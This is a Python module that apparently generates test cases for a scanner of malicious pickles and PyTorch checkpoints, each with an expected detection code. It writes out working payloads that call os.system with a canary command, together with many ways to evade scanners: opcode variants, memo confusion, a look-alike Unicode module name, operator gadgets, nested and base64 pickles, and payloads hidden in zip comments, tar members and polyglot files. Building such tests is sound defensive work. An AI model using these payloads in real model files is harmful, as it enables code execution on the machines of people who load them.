"""Pickles that hide what they call: ways to call, ways to name, pickles in pickles, places to lie in."""

from __future__ import annotations

import base64
import io
import struct
import tarfile
from collections.abc import Iterator
from typing import Any

from builders import Apply, Call, Name, Persistent, Raw, legacy_bytes, pickle_bytes, tensor_call
from hostile.case import Canary, Case, Kind, Loader
from hostile.zip_forge import Entry, forge_zip, torch_entries, torch_zip

RUNS = ("global-runs-code",)
_TENSOR = {"weight": tensor_call("0", (2,))}
_OPERATOR = ("GHSA-955r-x9j8-7rhh", "GHSA-m273-6v24-x4m4")
_CLEAN = pickle_bytes(_TENSOR)


def stream_cases(canary: Canary) -> Iterator[Case]:
    """Yield the cases of this module."""
    yield from _zipped("calls", _calls(canary))
    yield from _zipped("names", _names(canary))
    yield from _zipped("nested", _nested(canary))
    yield from _places(canary)


_Told = tuple[bytes, tuple[str, ...], Loader, tuple[str, ...]]
"""Stream, expected codes, what fires it, advisories."""


def _zipped(kind: Kind, told: dict[str, _Told]) -> Iterator[Case]:
    for name, (stream, expected, live, advisories) in told.items():
        yield Case(
            id=f"{kind}-{name}",
            kind=kind,
            content=lambda stream=stream: torch_zip(stream, {"0": bytes(8)}),
            expected=expected,
            advisories=advisories,
            stream=stream,
            live=live,
        )


def _short(text: bytes) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text


def _calls(c: Canary) -> dict[str, _Told]:
    text = c.shell.encode()
    call = Call("os", "system", (c.shell,))
    system = Name("os", "system")
    rebuilt = Call("torch._tensor", "_rebuild_from_type_v2", (system, Name("builtins", "str"), (c.shell,), {}))
    parameter_state = Call(
        "torch._utils", "_rebuild_parameter_with_state", (tensor_call("0", (2,)), True, {}, {"x": call})
    )
    return {
        "reduce": (pickle_bytes({**_TENSOR, "x": call}), RUNS, "torch", ()),
        "reduce-bare": (pickle_bytes(call), RUNS, "pickle", ()),
        "inst": (b"(S'" + text + b"'\nios\nsystem\n.", RUNS, "pickle", ()),
        "obj": (b"(cos\nsystem\nS'" + text + b"'\no.", RUNS, "pickle", ()),
        "newobj": (b"\x80\x02cos\nsystem\n(S'" + text + b"'\nt\x81.", RUNS, "", ()),
        "newobj-ex": (b"\x80\x04cos\nsystem\n(S'" + text + b"'\nt}\x92.", RUNS, "", ()),
        "build-setstate": (
            b"\x80\x02cargparse\nNamespace\n)R}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsb"
            b"X" + struct.pack("<I", len(text)) + text + b"b.",
            RUNS,
            "pickle",
            ("GHSA-mhc9-48gj-9gp3",),
        ),
        "build-rewrites-class": (
            b"\x80\x02cargparse\nNamespace\nN}X\x08\x00\x00\x00__repr__cos\nsystem\ns\x86bcargparse\nNamespace\n)R.",
            ("global-rewritten", *RUNS),
            "",
            (),
        ),
        "dict-key": (b"\x80\x02}cos\nsystem\nS'" + text + b"'\n\x85RK\x01s.", RUNS, "pickle", ()),
        "set-item": (pickle_bytes({"a": [1, {"b": (call,)}]}), RUNS, "pickle", ()),
        "popped": (b"\x80\x02cos\nsystem\nS'" + text + b"'\n\x85R0" + _CLEAN[2:], RUNS, "torch", ()),
        "persistent-id": (pickle_bytes(Persistent(("storage", call, "0", "cpu", 1))), RUNS, "torch", ()),
        "rebuild-from-type": (pickle_bytes(rebuilt), RUNS, "torch", ()),
        "parameter-state": (pickle_bytes(parameter_state), RUNS, "torch", ()),
        "newobj-function": (pickle_bytes(Call("copyreg", "__newobj__", (system, c.shell))), RUNS, "", ()),
        "map-in-list": (
            pickle_bytes(Call("builtins", "list", (Call("builtins", "map", (system, [c.shell])),)), 4),
            ("global-gadget", *RUNS),
            "pickle",
            (),
        ),
        "partial-obj": (
            pickle_bytes(Apply(Call("functools", "partial", (system, c.shell))), 4),
            ("global-gadget", "call-computed", *RUNS),
            "pickle",
            (),
        ),
        "attrgetter": (
            pickle_bytes(Apply(Apply(Call("operator", "attrgetter", ("system",)), Name("shutil", "os")), c.shell), 4),
            ("global-gadget", "call-computed", *RUNS),
            "pickle",
            _OPERATOR,
        ),
        "methodcaller": (
            pickle_bytes(Apply(Call("_operator", "methodcaller", ("system", c.shell)), Name("shutil", "os")), 4),
            ("global-gadget", "call-computed", *RUNS),
            "pickle",
            _OPERATOR,
        ),
        "numpy-object-array": (pickle_bytes(_object_array(call), 4), RUNS, "pickle", ()),
        "then-garbage": (pickle_bytes(call)[:-1] + b"\xff\xff", (*RUNS, "pickle-malformed"), "pickle", ()),
        "then-nothing": (pickle_bytes(call)[:-1], (*RUNS, "pickle-truncated"), "pickle", ("GHSA-9gvj-pp9x-gcfr",)),
    }


def _object_array(item: object) -> object:
    dtype = Call("numpy", "dtype", ("O8", False, True), (3, "|", None, None, None, -1, -1, 63))
    made = Call("numpy.core.multiarray", "_reconstruct", (Name("numpy", "ndarray"), (0,), b"b"))
    made.state = (1, (1,), dtype, False, [item])
    return made


def _names(c: Canary) -> dict[str, _Told]:
    text = c.shell.encode()
    shell = _short(text)
    run = b"\x85R."
    rewritten = (
        b"\x80\x04cnumpy\nprod\n(N}(X\x01\x00\x00\x00aX\x02\x00\x00\x00osX\x01\x00\x00\x00bX\x06\x00\x00\x00systemutb0"
        b"cnumpy\nprod.a\ncnumpy\nprod.b\n\x93"
    )
    return {
        "memo": (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x9400h\x00h\x01\x93" + shell + run, RUNS, "pickle", ()),
        "memo-confusion": (
            b"\x80\x04\x8c\x0ctorch._utils\x94\x8c\x12_rebuild_tensor_v2\x940"
            b"\x8c\x02osq\x000\x8c\x06systemq\x010h\x00h\x01\x93" + shell + run,
            RUNS,
            "pickle",
            (),
        ),
        "memo-text-index": (
            b"\x80\x04\x8c\x02osp7\n0\x8c\x06systemp1000\n0g7\ng1000\n\x93" + shell + run,
            RUNS,
            "pickle",
            (),
        ),
        "memo-long-index": (
            b"\x80\x04\x8c\x02osr\x00\x00\x01\x000\x8c\x06systemr\x01\x00\x01\x000j\x00\x00\x01\x00j\x01\x00\x01\x00\x93"
            + shell
            + run,
            RUNS,
            "pickle",
            (),
        ),
        "duplicated": (b"\x80\x04\x8c\x05posix20\x8c\x06system\x93" + shell + run, RUNS, "pickle", ()),
        "byte-strings": (b"\x80\x04U\x02osU\x06system\x93" + shell + run, RUNS, "pickle", ()),
        "long-opcodes": (
            b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"osX\x06\x00\x00\x00system\x93" + shell + run,
            RUNS,
            "pickle",
            (),
        ),
        "escaped-text": (b"\x80\x04S'\\x6fs'\nV\\u0073ystem\n\x93" + shell + run, RUNS, "pickle", ()),
        "frames": (
            b"\x80\x04\x95\x03\x00\x00\x00\x00\x00\x00\x00"
            + _short(b"o")[:0]
            + b"\x8c\x02os\x8c\x06system\x93"
            + shell
            + run,
            RUNS,
            "pickle",
            (),
        ),
        "dotted": (pickle_bytes(Call("shutil", "os.system", (c.shell,)), 4), RUNS, "pickle", ()),
        "dotted-private": (pickle_bytes(Call("random", "_os.system", (c.shell,)), 4), RUNS, "pickle", ()),
        "dotted-globals": (
            pickle_bytes(Call("random", "Random.seed.__globals__.get", ("x",)), 4),
            ("global-gadget",),
            "",
            (),
        ),
        "module-of-module": (
            pickle_bytes(Call("builtins", "getattr", (Name("shutil", "os"), "system")), 4),
            ("global-gadget", *RUNS),
            "",
            (),
        ),
        "python-2": (
            b"\x80\x02c__builtin__\neval\nU" + bytes([len(c.code)]) + c.code.encode() + b"\x85R.",
            RUNS,
            "pickle",
            (),
        ),
        "python-2-moved": (
            b"\x80\x02ccommands\ngetoutput\nU" + bytes([len(text)]) + text + b"\x85R.",
            RUNS,
            "pickle",
            (),
        ),
        "computed": (rewritten + shell + run, ("global-computed", "global-rewritten"), "pickle", ()),
        "computed-module": (
            pickle_bytes(Apply(Raw(_computed_name()), c.shell), 4),
            ("global-computed",),
            "pickle",
            (),
        ),
        "long-name": (
            b"\x80\x04\x8d" + struct.pack("<Q", 1 << 17) + b"o" * (1 << 17) + b"\x8c\x06system\x93" + shell + run,
            ("global-computed",),
            "",
            (),
        ),
        "extension-1": (b"\x80\x02\x82\x05" + b"X\x02\x00\x00\x00hi\x85R.", ("global-extension",), "", ()),
        "extension-2": (b"\x80\x02\x83\x05\x01" + b"X\x02\x00\x00\x00hi\x85R.", ("global-extension",), "", ()),
        "extension-4": (b"\x80\x02\x84\x05\x01\x00\x10" + b"X\x02\x00\x00\x00hi\x85R.", ("global-extension",), "", ()),
        "not-text": (b"\x80\x04C\x02osC\x06system\x93.", ("pickle-malformed",), "", ()),
        "look-alike": (
            pickle_bytes(Call("torch._utіls", "_rebuild_tensor_v2", ()), 4),  # the i is Cyrillic
            ("global-unknown",),
            "",
            (),
        ),
        "newline-in-name": (pickle_bytes(Call("os\n", "system", (c.shell,)), 4), ("global-unknown",), "", ()),
    }


def _computed_name() -> bytes:
    """Return opcodes for ``os.system`` with a module name that ``str.lower`` gives."""
    lower = pickle_bytes(Call("builtins", "str.lower", ("OS",)), 4)
    return lower[2:-1] + b"\x8c\x06system\x93"


def _nested(c: Canary) -> dict[str, _Told]:
    call = Call("os", "system", (c.shell,))
    inner, old = pickle_bytes(call, 4), pickle_bytes(call, 2)
    text = b"(S'" + c.shell.encode() + b"'\nios\nsystem\n."
    twice = pickle_bytes({"x": pickle_bytes({"y": inner}, 4)}, 4)
    long_one = pickle_bytes({"pad": b"x" * (1 << 17), "call": call}, 4)
    archive = torch_zip(old, {})
    found = ("pickle-nested", *RUNS)
    encoded = base64.b64encode(inner).decode()
    deep = inner
    for _ in range(12):
        deep = pickle_bytes([deep], 4)
    return {
        "bytes": (pickle_bytes({**_TENSOR, "x": inner}, 4), found, "", ()),
        "bytes-protocol-2": (
            pickle_bytes({**_TENSOR, "x": Call("_codecs", "encode", (inner.decode("latin-1"), "latin1"))}),
            found,
            "",
            (),
        ),
        "bytes-protocol-0": (pickle_bytes({"x": text}, 4), found, "", ()),
        "byte-array": (pickle_bytes({"x": bytearray(inner)}, 5), found, "", ()),
        "twice": (twice, found, "", ()),
        "long": (pickle_bytes({"x": long_one}, 4), found, "", ()),
        "legacy-checkpoint": (
            pickle_bytes(Call("torch.storage", "_load_from_bytes", (legacy_bytes(old, []),))),
            RUNS,
            "torch",
            (),
        ),
        "zip-checkpoint": (
            pickle_bytes(Call("torch.storage", "_load_from_bytes", (archive,)), 4),
            found,
            "torch",
            (),
        ),
        "zip-in-bytes": (pickle_bytes({"x": archive}, 4), found, "", ()),
        "after-first": (pickle_bytes({"x": pickle_bytes({}, 4) + inner}, 4), found, "", ()),
        "base64": (pickle_bytes({"x": encoded}, 4), ("pickle-in-text",), "", ()),
        "too-deep": (pickle_bytes(deep, 4), ("nested-unreadable",), "", ()),
    }


def _places(c: Canary) -> Iterator[Case]:
    call = pickle_bytes(Call("os", "system", (c.shell,)))
    text = b"(S'" + c.shell.encode() + b"'\nios\nsystem\n."

    def zipped(name: str, content: bytes, *expected: str, live: Loader = "", **told: Any) -> Case:
        return Case(
            id=f"places-{name}",
            kind="places",
            content=lambda: content,
            expected=expected,
            live=live,
            **told,
        )

    more = Entry(name="archive/data/0", data=bytes(8))
    yield zipped("after-stop", torch_zip(_CLEAN + call, {"0": bytes(8)}), *RUNS, "pickle-trailing-bytes")
    other = Entry(name="archive/extra.pkl", data=call)
    yield zipped("other-record", forge_zip(torch_entries(_CLEAN, more, other)), *RUNS)
    unnamed = Entry(name="archive/.data/notes", data=call)
    yield zipped("record-without-suffix", forge_zip(torch_entries(_CLEAN, more, unnamed)), *RUNS)
    second = Entry(name="archive/DATA.pkl", data=call)
    yield zipped(
        "record-in-capitals", forge_zip(torch_entries(_CLEAN, more, second)), *RUNS, "record-repeated", live="torch"
    )
    unused = Entry(name="archive/data/77", data=call)
    yield zipped("unused-storage", forge_zip(torch_entries(_CLEAN, more, unused)), *RUNS, "record-unreferenced")
    yield zipped("deflated", torch_zip(call, {}, deflate=True), *RUNS, live="torch")
    yield zipped("plain-pickle", call, *RUNS, live="torch", carrier="pickle", advisories=("CVE-2025-10155",))
    yield zipped("plain-pickle-bin", call, *RUNS, live="pickle", carrier="pickle", suffix=".bin")
    yield zipped(
        "plain-pickle-odd-suffix",
        call,
        *RUNS,
        live="pickle",
        carrier="pickle",
        suffix=".config",
        advisories=("CVE-2025-1889",),
    )
    yield zipped("text-pickle", text, *RUNS, live="pickle", carrier="pickle")
    polyglot = text + torch_zip(_CLEAN, {"0": bytes(8)})
    yield zipped("text-pickle-before-zip", polyglot, *RUNS, live="pickle", carrier="pickle")
    yield zipped("pickle-before-zip", call + torch_zip(_CLEAN, {"0": bytes(8)}), *RUNS, live="torch", carrier="pickle")
    for place in range(5):
        yield zipped(f"legacy-{place}", _legacy_with(call, place), *RUNS, live="torch", carrier="torch-legacy")
    yield zipped(
        "tar-root", _tar({"pickle": call}), *RUNS, carrier="torch-tar", suffix=".tar", advisories=("CVE-2025-32434",)
    )
    yield zipped("tar-storages", _tar({"storages": call}), *RUNS, carrier="torch-tar", suffix=".tar")
    yield zipped("tar-member", _tar({"notes": call}), *RUNS, carrier="torch-tar", suffix=".tar")
    yield zipped("zip-comment", forge_zip(torch_entries(_CLEAN, more), comment=call), "zip-comment")
    gap = Entry(name="archive/data/0", data=bytes(8), before=call)
    yield zipped("zip-gap", forge_zip(torch_entries(_CLEAN, gap)), "zip-hidden-bytes")
    constants = Entry(name="archive/constants.pkl", data=call)
    yield zipped("torchscript-constants", forge_zip(torch_entries(_CLEAN, more, constants)), *RUNS)


def _legacy_with(call: bytes, place: int) -> bytes:
    """Return a legacy stream in which one of its five pickles is a call."""
    head = [
        pickle_bytes(0x1950A86A20F9469CFC6C),
        pickle_bytes(1001),
        pickle_bytes({"little_endian": True}),
        pickle_bytes({"weight": 1}),
        pickle_bytes([]),
    ]
    head[place] = call
    return b"".join(head)


def _tar(members: dict[str, bytes]) -> bytes:
    plain = {
        "sys_info": pickle_bytes({"protocol_version": 1000}),
        "pickle": pickle_bytes({}),
        "tensors": pickle_bytes(0),
        "storages": pickle_bytes(0) + pickle_bytes([]),
    }
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for name, data in (plain | members).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()
